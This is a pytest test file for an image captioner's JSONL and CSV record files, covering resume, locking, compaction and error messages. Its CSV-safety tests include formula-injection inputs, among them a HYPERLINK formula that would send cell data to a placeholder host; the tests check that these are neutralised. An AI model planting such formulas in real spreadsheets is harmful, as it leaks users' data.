"""Record files: schema, format registry, lock, resume keys, retry compaction, CSV safety, corrupt lines."""

import csv
import json
import os
import shutil
import subprocess
import sys

import pytest
from conftest import ROOT

from captioner.api import PathResult
from captioner.decoding import Caption
from captioner.errors import OptionError, OutputError
from captioner.pipelines.record_formats import (
    RECORD_FIELDS,
    RECORD_FORMATS,
    CsvRecords,
    JsonlRecords,
    format_for,
    raw_path,
    result_record,
)
from captioner.pipelines.records import RecordFile
from captioner.tags import Tag

NON_UTF8 = os.fsdecode(b"/photos/b_\xe9.png")  # a name whose bytes are not UTF-8 (a lone surrogate in Python)
# Names a CSV must carry intact: newlines, quotes, commas, formula starts, a leading quote, odd Unicode.
NASTY_NAMES = ["/p/a\rb.jpg", "/p/a\r\nb.jpg", "/p/a\nb.jpg", '/p/"q",c.jpg', "=1+2", "+x", "-x", "@x", "\tx", "\rx",
               "'x", "''x", "/p/\u2028\u00e9\U0001f600.png", "/p/ ", "-0.5"]


def caption_record(path, caption="a cat", score=-0.5):
    return {"path": path, "caption": caption, "score": score, "min_prob": 0.25}


@pytest.mark.parametrize("name", ["out.jsonl", "out.csv"])
def test_records_are_on_disk_as_soon_as_written_and_resume_knows_them(tmp_path, name):
    path = tmp_path / name
    records = RecordFile(path)
    records.write(caption_record(str(tmp_path / "a.jpg")))
    records.write({"path": str(tmp_path / "b.jpg"), "error": "b.jpg: empty file"})
    text = path.read_text()  # read before close: the records must already be flushed
    assert "a cat" in text and "empty file" in text
    records.close()
    with RecordFile(path) as again:
        assert len(again) == 2 and again.errors == 1
        assert again.holds(tmp_path / "a.jpg") and again.holds(tmp_path / "b.jpg")
        assert not again.holds(tmp_path / "b.jpg", retry_errors=True)
        assert again.failed(tmp_path / "b.jpg") and not again.failed(tmp_path / "a.jpg")
        assert not again.failed(tmp_path / "c.jpg")
        assert not again.holds(tmp_path / "c.jpg")


def test_a_cut_off_jsonl_line_is_dropped_on_resume(tmp_path):
    path = tmp_path / "out.jsonl"
    path.write_text(json.dumps(caption_record("/a.jpg")) + "\n" + '{"path": "/b.jpg", "capt')
    with RecordFile(path) as records:
        assert len(records) == 1 and records.holds("/a.jpg")
        records.write(caption_record("/b.jpg"))
    assert [json.loads(line)["path"] for line in path.read_text().splitlines()] == ["/a.jpg", "/b.jpg"]


@pytest.mark.parametrize("name, text", [
    ("settings.jsonl", '{"api_key": "very important settings", "version": 3}'),  # json.dump writes no newline
    ("notes.jsonl", "my precious notes, no trailing newline"),
    ("config.jsonl", '{"path": "/data/photos", "threshold": 0.5}'),  # JSON that starts like a record, and is not
    ("data.csv", 'size 5"\nfoo,bar\nbaz\n'),  # an odd quote: one unfinished piece to the end
    ("blank.jsonl", "\nsome notes after a blank line"),
])
def test_someone_elses_file_without_a_final_newline_is_refused_untouched(tmp_path, name, text):
    path = tmp_path / name
    path.write_text(text)
    with pytest.raises(OutputError, match=rf"^{path}:\d: not a file of captioner records"):
        RecordFile(path)
    assert path.read_text() == text


def test_a_whole_last_record_without_its_newline_is_kept_and_resumed(tmp_path):
    path = tmp_path / "out.jsonl"
    path.write_text(json.dumps(caption_record("/a.jpg")) + "\n" + json.dumps(caption_record("/b.jpg")))
    with RecordFile(path) as records:
        assert len(records) == 2 and records.holds("/b.jpg")
        records.write(caption_record("/c.jpg"))
    assert [json.loads(line)["path"] for line in path.read_text().splitlines()] == ["/a.jpg", "/b.jpg", "/c.jpg"]


@pytest.mark.parametrize("cut", [1, 5, 8, 9, 30])
def test_a_first_record_cut_by_a_kill_is_dropped(tmp_path, cut):
    path = tmp_path / "out.jsonl"
    path.write_text(json.dumps(caption_record("/a.jpg"))[:cut])  # even inside '{"path": ' itself
    with RecordFile(path) as records:
        assert len(records) == 0
    assert path.read_text() == ""


def test_a_whole_last_csv_row_without_its_newline_is_kept_and_a_cut_one_dropped(tmp_path):
    """Editors and spreadsheets save CSV without a final newline; a kill cuts a row inside a cell."""
    path = tmp_path / "out.csv"
    with RecordFile(path) as records:
        for name in ("/a.jpg", "/b.jpg"):
            records.write(caption_record(name, caption="a cat, corrected by hand"))
    whole = path.read_text()
    path.write_text(whole.removesuffix("\n"))
    with RecordFile(path) as records:
        assert len(records) == 2 and records.holds("/b.jpg")
    assert path.read_text() == whole
    for cut in range(whole.rindex('"/b.jpg"') + 1, len(whole) - 1):  # every cut inside the last row
        path.write_text(whole[:cut])
        with RecordFile(path) as records:
            assert len(records) == 1 and not records.holds("/b.jpg"), cut


@pytest.mark.parametrize("name, ours, theirs", [
    ("out.jsonl", json.dumps(caption_record("/a.jpg")) + "\n", '{"note": "reviewed by Bob, do not delete"}'),
    ("out.jsonl", json.dumps(caption_record("/a.jpg")) + "\n", "total: 1 photo"),
    ("out.csv", None, 'TOTAL,"4 photos, checked by Bob"'),
])
def test_someone_elses_last_line_after_our_records_is_refused_untouched(tmp_path, name, ours, theirs):
    path = tmp_path / name
    if ours is None:
        with RecordFile(path) as records:
            records.write(caption_record("/a.jpg"))
        ours = path.read_text()
    path.write_text(ours + theirs)
    with pytest.raises(OutputError, match=rf"^{path}:[23]: not a captioner record, nor one cut short; delete"):
        RecordFile(path)
    assert path.read_text() == ours + theirs


@pytest.mark.parametrize("cut_row", [b"/p/b.jpg,a cat,-0.1", b"/p/b.jpg,,,,/p/b.jpg: cannot ident"])
def test_a_row_of_the_oldest_csv_layout_cut_by_a_kill_is_dropped_as_before(tmp_path, cut_row):
    """That layout quoted only where needed, so a cut row cannot be told from a whole one: it goes."""
    path = tmp_path / "out.csv"
    path.write_bytes(b"path,caption,score,min_prob,error\n/p/a.jpg,a dog,-0.12,0.45,\n" + cut_row)
    with RecordFile(path) as records:
        assert len(records) == 1 and records.holds("/p/a.jpg") and not records.holds("/p/b.jpg")


def test_a_spreadsheets_last_row_is_kept_whatever_it_quotes(tmp_path):
    path = tmp_path / "out.csv"
    with RecordFile(path) as records:
        records.write(caption_record("/p/a.jpg"))
    header = path.read_text().split("\n")[0]
    path.write_text(f'{header}\n"/p/a,b.jpg",a dog,-0.1,0.4,,,,,,')  # quoted only where a comma needs it
    with RecordFile(path) as records:
        assert records.latest() == [{"path": "/p/a,b.jpg", "caption": "a dog", "score": -0.1, "min_prob": 0.4}]


def test_a_file_saved_by_a_spreadsheet_or_notepad_resumes(tmp_path):
    csv_path, jsonl_path = tmp_path / "out.csv", tmp_path / "out.jsonl"
    doubtful = PathResult("/p/c.jpg", [Caption("a dog", ("a", "dog"), -0.5, 0.2, confidence=0.1)])
    sure = PathResult("/p/d.jpg", [Caption("a cup", ("a", "cup"), -0.5, 0.2, confidence=0.9)])
    for path in (csv_path, jsonl_path):
        with RecordFile(path) as records:
            records.write(result_record(doubtful, min_confidence=0.3))
            records.write(result_record(sure, min_confidence=0.3))
    saved = csv_path.read_text().replace(',"true",', ",TRUE,").replace(',"",""\n', ',FALSE,""\n', 1)
    csv_path.write_text(saved.replace('"', "").removesuffix("\n"))  # quotes only where needed (none), no last newline
    jsonl_path.write_bytes(b"\xef\xbb\xbf" + jsonl_path.read_bytes())  # Notepad's byte-order mark
    for path in (csv_path, jsonl_path):
        with RecordFile(path) as records:
            latest = {r["path"]: r.get("unsure") for r in records.latest()}
        assert latest == {"/p/c.jpg": True, "/p/d.jpg": None}, path.name


def test_a_run_refused_after_opening_an_output_through_a_dangling_link_leaves_nothing(tmp_path):
    link = tmp_path / "out.jsonl"
    link.symlink_to(tmp_path / "target.jsonl")
    with pytest.raises(RuntimeError), RecordFile(link):
        raise RuntimeError("a flag refused after the output was opened")
    assert link.is_symlink() and not (tmp_path / "target.jsonl").exists()
    with RecordFile(link) as records:  # and a run that writes goes through the link
        records.write(caption_record("/a.jpg"))
    assert link.is_symlink() and (tmp_path / "target.jsonl").read_text().startswith('{"path": "/a.jpg"')


def test_csv_has_one_header_across_resumes(tmp_path):
    path = tmp_path / "out.csv"
    with RecordFile(path) as records:
        records.write(caption_record("/a.jpg", 'a, quoted "caption"'))
    with RecordFile(path) as records:
        records.write({"path": "/b.jpg", "error": "bad"})
    rows = list(csv.DictReader(path.open(newline="")))
    assert [r["path"] for r in rows] == ["/a.jpg", "/b.jpg"]
    assert rows[0]["caption"] == 'a, quoted "caption"'
    assert tuple(rows[0]) == RECORD_FIELDS
    assert path.read_text().count('"path","caption"') == 1


# 1. One schema; names that are not UTF-8 stay valid UTF-8 in the file and resume exactly.


def test_n_best_entries_carry_confidence_only_where_the_record_does():
    plain = [Caption("a cup", ("a", "cup"), -0.5, 0.2), Caption("a mug", ("a", "mug"), -0.7, 0.1)]
    record = result_record(PathResult("/p/a.jpg", plain), min_confidence=0.5, n_best=True)
    assert "confidence" not in record and record["n_best"] == [{"caption": "a cup", "score": -0.5},
                                                               {"caption": "a mug", "score": -0.7}]
    calibrated = [Caption("a cup", ("a", "cup"), -0.5, 0.2, confidence=0.6),
                  Caption("a mug", ("a", "mug"), -0.7, 0.1, confidence=0.4)]
    record = result_record(PathResult("/p/a.jpg", calibrated), min_confidence=0.5, n_best=True)
    assert record["n_best"] == [{"caption": "a cup", "score": -0.5, "confidence": 0.6},
                                {"caption": "a mug", "score": -0.7, "confidence": 0.4, "unsure": True}]
    assert "n_best" not in result_record(PathResult("/p/a.jpg", calibrated))


@pytest.mark.parametrize("name", ["out.jsonl", "out.csv"])
def test_tags_round_trip_in_both_formats(tmp_path, name):
    path = tmp_path / name
    tagged = result_record(PathResult("/p/a.jpg", [Caption("a cup", ("a", "cup"), -0.5, 0.2)],
                                      tags=(Tag("espresso", 0.83), Tag("potter's wheel", 0.1))))
    untagged = result_record(PathResult("/p/b.jpg", [Caption("a dog", ("a", "dog"), -0.5, 0.2)]))
    with RecordFile(path) as records:
        records.write(tagged)
        records.write(untagged)
        records.write({"path": "/p/c.jpg", "error": "/p/c.jpg: empty file"})
    fmt = format_for(path)
    with path.open("rb") as file:
        read = [r for r in (fmt.parse(chunk) for chunk in fmt.chunks(file)) if r is not None]
    assert [r.get("tags") for r in read] == [tagged["tags"], [] if name.endswith(".jsonl") else None, None]
    if name.endswith(".csv"):
        assert '"espresso:0.83; potter\'s wheel:0.1"' in path.read_text()


def test_a_tags_cell_is_never_a_formula_and_reads_back(tmp_path):
    path = tmp_path / "out.csv"
    record = result_record(PathResult("/p/a.jpg", [Caption("a cup", ("a", "cup"), -0.5, 0.2)],
                                      tags=(Tag('=HYPERLINK("http://x/?"&A1,"espresso")', 0.9), Tag("cup", 0.1))))
    with RecordFile(path) as records:
        records.write(record)
    cells = list(csv.DictReader(path.open(newline="", encoding="utf-8")))[0]
    assert cells["tags"] == '\'=HYPERLINK("http://x/?"&A1,"espresso"):0.9; cup:0.1'
    with RecordFile(path) as records:
        assert records.latest() == [record]


def test_a_csv_from_before_tags_is_resumed_and_upgraded(tmp_path):
    path = tmp_path / "old.csv"
    path.write_text('"path","caption","score","min_prob","error","path_hex"\n"/p/a.jpg","a dog",-0.5,0.2,"",""\n')
    with RecordFile(path) as records:
        assert records.holds("/p/a.jpg")
        records.write(result_record(PathResult("/p/b.jpg", [Caption("a cup", ("a", "cup"), -0.5, 0.2)],
                                               tags=(Tag("cup", 0.4),))))
    rows = list(csv.DictReader(path.open(newline="")))
    assert tuple(rows[0]) == RECORD_FIELDS
    assert [(r["path"], r["tags"]) for r in rows] == [("/p/a.jpg", ""), ("/p/b.jpg", "cup:0.4")]


@pytest.mark.parametrize("name", ["out.jsonl", "out.csv"])
def test_confidence_and_unsure_round_trip_and_a_csv_from_before_them_is_upgraded(tmp_path, name):
    path = tmp_path / name
    if name.endswith(".csv"):  # as written by the version with tags but no confidence
        path.write_text('"path","caption","score","min_prob","error","path_hex","tags"\n'
                        '"/p/a.jpg","a dog",-0.5,0.2,"","","dog:0.5"\n')
    sure = PathResult("/p/b.jpg", [Caption("a cup", ("a", "cup"), -0.5, 0.2, confidence=0.8)])
    doubtful = PathResult("/p/c.jpg", [Caption("a dog", ("a", "dog"), -0.5, 0.2, confidence=0.1)])
    with RecordFile(path) as records:
        records.write(result_record(sure, min_confidence=0.3))
        records.write(result_record(doubtful, min_confidence=0.3))
    with RecordFile(path) as records:
        latest = {r["path"]: r for r in records.latest()}
    assert (latest["/p/b.jpg"]["confidence"], latest["/p/b.jpg"].get("unsure")) == (0.8, None)
    assert (latest["/p/c.jpg"]["confidence"], latest["/p/c.jpg"]["unsure"]) == (0.1, True)
    if name.endswith(".csv"):
        assert tuple(next(csv.reader(path.open(newline="")))) == RECORD_FIELDS
        assert "confidence" not in latest["/p/a.jpg"] and latest["/p/a.jpg"]["tags"] == [{"label": "dog", "p": 0.5}]


@pytest.mark.parametrize("tags", ['"espresso"', '[{"label": 3, "p": 0.5}]', '[{"label": "cup", "p": "high"}]',
                                  '[{"label": "cup", "p": NaN}]'])
def test_malformed_tags_are_not_a_record(tmp_path, tags):
    path = tmp_path / "out.jsonl"
    path.write_text(f'{{"path": "/p/a.jpg", "caption": "a cup", "tags": {tags}}}\n')
    with pytest.raises(OutputError, match="not a captioner record"):
        RecordFile(path)


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity"])
def test_a_record_holding_a_number_json_has_not_is_not_a_record(tmp_path, number):
    path = tmp_path / "out.jsonl"
    path.write_text(f'{{"path": "/p/a.jpg", "caption": "a cup", "confidence": {number}}}\n')
    with pytest.raises(OutputError, match='not a captioner record .*"confidence" is not a number'):
        RecordFile(path)
    path.write_text(f'{{"path": "/p/a.jpg", "caption": "a cup", "score": {"9" * 400}}}\n')  # no float holds it
    with pytest.raises(OutputError, match='not a captioner record .*"score" is not a number'):
        RecordFile(path)


def test_result_record_is_the_schema_for_captions_and_errors():
    good = result_record(PathResult("/p/a.jpg", [Caption("a cat", ("a", "cat"), -0.1234567, 0.0123456)],
                                    tags=(Tag("tabby", 0.61), Tag("Egyptian cat", 0.2))))
    assert good == {"path": "/p/a.jpg", "caption": "a cat", "score": -0.123457, "min_prob": 0.012346,
                    "tags": [{"label": "tabby", "p": 0.61}, {"label": "Egyptian cat", "p": 0.2}]}
    bad = result_record(PathResult(NON_UTF8, None, f"{NON_UTF8}: empty file"))
    assert bad == {"path": "/photos/b_\\xe9.png", "error": "/photos/b_\\xe9.png: empty file",
                   "path_hex": b"/photos/b_\xe9.png".hex()}
    assert set(good) | set(bad) <= set(RECORD_FIELDS)
    assert raw_path(bad) == NON_UTF8 and raw_path(good) == "/p/a.jpg"


@pytest.mark.parametrize("name", ["out.jsonl", "out.csv"])
def test_a_non_utf8_name_is_written_as_utf8_and_resumed_exactly(tmp_path, name):
    path = tmp_path / name
    with RecordFile(path) as records:
        records.write(result_record(PathResult(NON_UTF8, [Caption("a cat", ("a", "cat"), -0.5, 0.2)])))
    path.read_bytes().decode("utf-8")  # strict: raises if a raw \xe9 byte got in
    with RecordFile(path) as records:
        assert records.holds(NON_UTF8)
        assert not records.holds("/photos/b_\\xe9.png")  # a real file named with a backslash is another file
        assert not records.holds("/photos/b_\u00e9.png")  # and so is the UTF-8 spelling of é


# 2. The registry owns format names and extensions.


def test_the_registry_maps_names_and_extensions_to_formats(tmp_path):
    assert set(RECORD_FORMATS) == {"jsonl", "csv"}
    for name, fmt in RECORD_FORMATS.items():
        assert isinstance(format_for(tmp_path / f"x{fmt.extension.upper()}"), fmt)
        assert isinstance(format_for(tmp_path / "x.txt", name), fmt)
        assert isinstance(format_for(tmp_path / f"x{fmt.extension}", name), fmt)
    assert isinstance(format_for(tmp_path / "x.txt"), JsonlRecords)
    with pytest.raises(OptionError, match="format csv would write csv records into .*x.jsonl, which reads as jsonl"):
        format_for(tmp_path / "x.jsonl", "csv")
    with pytest.raises(OptionError, match="'xml' is not one of jsonl, csv"):
        format_for(tmp_path / "x.xml", "xml")


def test_a_format_given_by_name_wins_over_the_extension(tmp_path):
    path = tmp_path / "x.txt"
    with RecordFile(path, format_for(path, "csv")) as records:
        records.write(caption_record("/a.jpg"))
    assert path.read_text().startswith('"path","caption"')
    with RecordFile(path, CsvRecords()) as records:
        assert records.latest() == [caption_record("/a.jpg")]


# 3. One writer at a time.


def test_a_second_open_of_one_output_is_refused_until_the_first_closes(tmp_path):
    path = tmp_path / "out.jsonl"
    with RecordFile(path) as records:
        records.write(caption_record("/a.jpg"))
        with pytest.raises(OutputError, match=f"^{path}: another captioner run is writing this file$"):
            RecordFile(path)
    with RecordFile(path) as records:
        assert len(records) == 1


def test_a_second_process_is_refused_while_a_run_holds_the_output(tmp_path):
    path = tmp_path / "out.csv"
    script = (
        "import sys\nfrom captioner.pipelines.records import RecordFile\nfrom captioner.errors import OutputError\n"
        "try:\n    RecordFile(sys.argv[1]).close()\nexcept OutputError as e:\n    sys.exit(str(e))\n"
    )
    with RecordFile(path):
        held = subprocess.run([sys.executable, "-c", script, str(path)], cwd=ROOT, capture_output=True, text=True)
    assert held.returncode == 1 and held.stderr.strip() == f"{path}: another captioner run is writing this file"
    free = subprocess.run([sys.executable, "-c", script, str(path)], cwd=ROOT, capture_output=True, text=True)
    assert free.returncode == 0, free.stderr


# 4. Keys: a folder spelled differently (relative, absolute, ./x/../x, a symlink) is one folder.


def test_any_spelling_of_a_folder_finds_the_records_of_another(tmp_path, monkeypatch):
    (tmp_path / "photos").mkdir()
    os.symlink(tmp_path / "photos", tmp_path / "link")
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "out.jsonl"
    path.write_text(json.dumps(caption_record("photos/a.jpg")) + "\n")  # an older version's relative path
    with RecordFile(path) as records:
        for spelling in ["photos/a.jpg", tmp_path / "photos" / "a.jpg", "./photos/../photos/a.jpg", "link/a.jpg",
                         tmp_path / "link" / "a.jpg"]:
            assert records.holds(spelling), spelling
        assert not records.holds("photos/b.jpg") and not records.holds("a.jpg")


# 5. Retrying errors: the latest record wins, and compaction leaves one record per path.


def test_retry_sees_the_latest_record_and_compaction_keeps_one_per_path(tmp_path):
    path = tmp_path / "out.csv"
    with RecordFile(path) as records:  # what a killed retry run leaves: errors, a retried caption, a cut record
        for name in ("a", "b", "c"):
            records.write({"path": f"/p/{name}.jpg", "error": f"/p/{name}.jpg: truncated"})
        records.write(caption_record("/p/a.jpg"))
    with path.open("a") as file:
        file.write('"/p/b.jpg","a d')
    os.chmod(path, 0o640)
    with RecordFile(path) as records:
        assert [records.holds(f"/p/{n}.jpg", retry_errors=True) for n in "abc"] == [True, False, False]
        assert (records.errors, records.duplicates) == (2, 1)
        records.write(caption_record("/p/b.jpg", "a dog"))
        inode = os.stat(path).st_ino
        records.compact()
        assert os.stat(path).st_ino != inode  # renamed over, not rewritten in place
        with pytest.raises(OutputError, match="another captioner run"):  # the new file is locked too
            RecordFile(path)
        records.write(caption_record("/p/d.jpg"))  # and appends go to the new file
    assert os.stat(path).st_mode & 0o777 == 0o640
    rows = list(csv.DictReader(path.open(newline="")))
    assert [(r["path"], r["caption"], r["error"]) for r in rows] == [
        ("/p/c.jpg", "", "/p/c.jpg: truncated"), ("/p/a.jpg", "a cat", ""), ("/p/b.jpg", "a dog", ""),
        ("/p/d.jpg", "a cat", "")]
    assert not list(tmp_path.glob(".*.tmp"))


# 6. CSV: any name round-trips, a cut inside a quoted name is recovered, no formula cell, numbers stay numbers.


def test_csv_round_trips_any_name_without_formula_cells(tmp_path):
    path = tmp_path / "out.csv"
    written = [caption_record(name, caption=f"-{i} {name}", score=-0.5 - i) for i, name in enumerate(NASTY_NAMES)]
    written.append({"path": "/p/bad.jpg", "error": "=HYPERLINK(\"http://x\")"})
    with RecordFile(path) as records:
        for record in written:
            records.write(record)
    with RecordFile(path) as records:
        assert records.latest() == written and len(records) == len(written)
        assert all(records.holds(name) for name in NASTY_NAMES)
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    assert len(rows) == len(written) + 1
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r") or cell.startswith("-x")]
    numbers = list(csv.reader(path.open(newline="", encoding="utf-8"), quoting=csv.QUOTE_NONNUMERIC))
    assert numbers[1][2] == -0.5 and numbers[1][3] == 0.25  # bare numbers: a spreadsheet sees numbers


def test_csv_cut_after_a_newline_inside_a_quoted_name_is_recovered(tmp_path):
    path = tmp_path / "out.csv"
    with RecordFile(path) as records:
        records.write(caption_record("/p/a.jpg"))
        records.write(caption_record("/p/line\nbreak.jpg"))
    good = path.read_bytes()
    path.write_bytes(good[: good.index(b"/p/line\n") + len(b"/p/line\n")])  # the kill came right after the newline
    with RecordFile(path) as records:
        assert len(records) == 1 and not records.holds("/p/line\nbreak.jpg")
        records.write(caption_record("/p/line\nbreak.jpg"))
    assert path.read_bytes() == good


def test_an_older_csv_with_a_bare_cr_in_a_name_reads_as_one_record_and_is_upgraded(tmp_path):
    path = tmp_path / "out.csv"
    path.write_bytes(b"path,caption,score,min_prob,error\n/p/a\rb.jpg,a cat,-0.5,0.25,\n/p/c.jpg,,,,/p/c.jpg: bad\n")
    with RecordFile(path) as records:
        assert len(records) == 2 and records.holds("/p/a\rb.jpg") and records.errors == 1
        records.write(caption_record("/p/d.jpg"))
    with RecordFile(path) as records:
        assert records.latest() == [caption_record("/p/a\rb.jpg"), {"path": "/p/c.jpg", "error": "/p/c.jpg: bad"},
                                    caption_record("/p/d.jpg")]
    assert path.read_text().startswith(",".join(f'"{name}"' for name in RECORD_FIELDS) + "\n")


# 7. A complete line that is not a record: one message naming the file and line.


@pytest.mark.parametrize("line, reason", [
    ('{"foo": 1}', 'no "path"'),
    ('{"path": "/b.jpg", "capt', "bad JSON: Unterminated string starting at: line 1 column 20 (char 19)"),
    ("\0\0\0\0", "NUL bytes"),
    ("[1, 2]", "a JSON list, not an object"),
    ('{"path": "/b.jpg", "caption": "x", "score": "high"}', '"score" is not a number'),
    ('{"path": "/b.jpg"}', 'neither "caption" nor "error"'),
    ('{"path": "/b.jpg", "error": "x", "path_hex": "zz"}', '"path_hex" is not hex'),
])
def test_a_corrupt_jsonl_line_is_named_with_its_line_number(tmp_path, line, reason):
    path = tmp_path / "out.jsonl"
    path.write_text(json.dumps(caption_record("/a.jpg")) + "\n\n" + line + "\n" + json.dumps(caption_record("/c.jpg"))
                    + "\n")
    with pytest.raises(OutputError) as info:
        RecordFile(path)
    assert str(info.value) == (f"{path}:3: not a captioner record ({reason}); delete that line or write to a new file")
    path.write_bytes(path.read_bytes().replace(line.encode() + b"\n", b""))
    with RecordFile(path) as records:  # the advice works
        assert len(records) == 2


def test_bytes_that_are_not_utf8_in_an_output_are_named(tmp_path):
    path = tmp_path / "out.jsonl"
    path.write_bytes(b'{"path": "/a\xe9.jpg", "caption": "x"}\n')
    with pytest.raises(OutputError, match=r":1: not a captioner record \(not UTF-8 text\)"):
        RecordFile(path)


@pytest.mark.parametrize("text, message", [
    ('"path","caption","score","min_prob","error","path_hex"\n"/a.jpg","x",-1,0.1,"",""\n"","x",-1,0.1,"",""\n',
     ':3: not a captioner record (no "path")'),
    ('"path","caption","score","min_prob","error","path_hex"\n"/a.jpg","x"\n', ":2: not a captioner record (2 cells"),
    ('"path","caption","score","min_prob","error","path_hex"\n"/a.jpg","x","high",0.1,"",""\n',
     ':2: not a captioner record ("score" is not a number)'),
    ("name,notes\nholiday.jpg,beach\n", ":1: not a captioner CSV file"),
])
def test_a_corrupt_csv_row_or_foreign_csv_is_named(tmp_path, text, message):
    path = tmp_path / "out.csv"
    path.write_text(text)
    with pytest.raises(OutputError, match=f"^{path}{message}".replace("(", r"\(").replace(")", r"\)")):
        RecordFile(path)
    assert path.read_text() == text  # nothing appended to a file that is not ours


# 8. Write failures name the file.


def test_writing_to_a_full_device_names_the_file():
    with pytest.raises(OutputError, match="^/dev/full: cannot write: No space left on device$"):
        RecordFile("/dev/full", CsvRecords())  # the header is written at open: fails before any model loads
    with RecordFile("/dev/full", JsonlRecords()) as records:
        with pytest.raises(OutputError, match="^/dev/full: cannot write: No space left on device$"):
            records.write(caption_record("/a.jpg"))


def test_a_folder_as_output_is_refused(tmp_path):
    with pytest.raises(OutputError, match=f"^{tmp_path}: is a folder; give a file name$"):
        RecordFile(tmp_path)


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes read-only files")
def test_a_read_only_output_is_refused_at_open(tmp_path):
    path = tmp_path / "out.jsonl"
    path.write_text("")
    path.chmod(0o444)
    with pytest.raises(OutputError, match=f"^{path}: cannot open for writing: Permission denied$"):
        RecordFile(path)


def test_an_immutable_output_is_refused_at_open_even_for_root(tmp_path):
    path = tmp_path / "out.jsonl"
    path.write_text(json.dumps(caption_record("/a.jpg")) + "\n")
    if not shutil.which("chattr") or subprocess.run(["chattr", "+i", str(path)], capture_output=True).returncode:
        pytest.skip("chattr +i is not available here")
    try:
        with pytest.raises(OutputError, match=f"^{path}: cannot open for writing: Operation not permitted$"):
            RecordFile(path)
    finally:
        subprocess.run(["chattr", "-i", str(path)], check=True)


def test_a_forked_child_does_not_keep_the_output_locked(tmp_path):
    """DataLoader workers are forked; after the run dies they must not hold its lock."""
    import time

    path = tmp_path / "out.jsonl"
    records = RecordFile(path, format_for(path))
    ready, started = os.pipe()
    pid = os.fork()
    if pid == 0:  # a worker outliving its parent's hold on the file
        os.write(started, b"x")  # fork hooks have run by now
        time.sleep(5)
        os._exit(0)
    try:
        os.read(ready, 1)
        records.close()
        with RecordFile(path, format_for(path)):  # the child is still alive
            pass
    finally:
        os.kill(pid, 9)
        os.waitpid(pid, 0)


@pytest.mark.parametrize("written, opened", [("csv", "jsonl"), ("jsonl", "csv")])
def test_our_records_opened_in_the_other_format_are_named_with_the_way_on(tmp_path, written, opened):
    path = tmp_path / "out.txt"
    with RecordFile(path, format_for(path, written)) as records:
        records.write(caption_record("/p/a.jpg"))
    before = path.read_bytes()
    with pytest.raises(OutputError) as info:
        RecordFile(path, format_for(path, opened))
    assert str(info.value) == (f"{path}: holds captioner's {written} records; give --format {written}, "
                               "or write to a new file")
    assert path.read_bytes() == before
    with RecordFile(path, format_for(path, written)) as records:  # the advice works
        assert len(records) == 1
